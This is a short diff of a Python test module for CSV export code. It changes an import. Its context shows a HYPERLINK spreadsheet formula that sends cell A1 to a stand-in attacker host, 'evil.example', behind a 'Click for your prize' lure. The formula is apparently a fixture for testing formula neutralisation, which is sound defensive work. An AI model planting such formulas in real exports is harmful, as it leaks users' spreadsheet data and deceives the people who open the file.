@@ -14,8 +14,7 @@ from scraping.sources.tabular.schema import TEMPLATE_CSV
 from simulations.analysis.exports import load_records, neutralise_formula, read_csv, write_csv
 from simulations.analysis.records import PostKind
 from simulations.analysis.sentiment import ResponseRow, Sentiment, Stance
-
-from . import peloton
+from tests.analysis import peloton
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your prize")'
 FORMULAS = [
